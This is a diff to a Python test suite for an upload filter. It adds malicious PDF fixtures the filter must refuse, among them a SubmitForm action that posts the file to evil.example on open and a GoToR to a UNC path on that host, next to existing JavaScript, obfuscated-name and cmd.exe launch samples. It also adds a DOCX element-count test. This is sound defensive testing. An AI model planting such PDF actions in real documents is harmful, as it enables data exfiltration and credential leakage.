@@ -102,6 +102,9 @@ BAD = {
     "pdf-script": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
     "pdf-script-disguised": (pdf(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), ACTS),
     "pdf-script-packed": (pdf(object_stream(b"<</S/JavaScript/JS(app.alert(1))>>")), ACTS),
+    "pdf-script-of-a-film": (pdf(b"<< /S /Rendition /JS (app.alert(1)) >>", catalog=b"/AA << /O 4 0 R >>"), ACTS),
+    "pdf-sends-itself": (pdf(b"<< /S /SubmitForm /F (http://evil.example/) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
+    "pdf-goes-elsewhere": (pdf(b"<< /S /GoToR /F (\\\\evil.example\\x) >>", catalog=b"/OpenAction 4 0 R"), ACTS),
     "pdf-launch": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTS),
     "pdf-form-with-scripts": (pdf(b"<< /XFA 5 0 R >>"), ACTS),
     "pdf-film": (pdf(b"<< /Subtype /RichMedia >>"), ACTS),
@@ -200,6 +203,17 @@ def test_a_document_of_millions_of_empty_elements_takes_no_memory() -> None:
         assert tracemalloc.get_traced_memory()[1] < 5 * 1024 * 1024
     finally:
         tracemalloc.stop()
+
+
+@pytest.mark.parametrize(("most", "is_taken"), [(1010, True), (990, False)])
+def test_empty_elements_are_counted_over_all_parts(most: int, is_taken: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(packages, "ELEMENTS_LIMIT", most)
+    content = docx(body="<w:p/>" * 500, word__footer1_xml="<w:ftr xmlns:w='w'>" + "<w:p/>" * 495 + "</w:ftr>")
+    if is_taken:
+        assert taken(content) == kinds.DOCX
+        return
+    with pytest.raises(uploads.UploadRefused, match="unpacks to more"):
+        taken(content)
 
 
 # --- Controls: with the guard off, the file comes through ------------------------------------------------------------
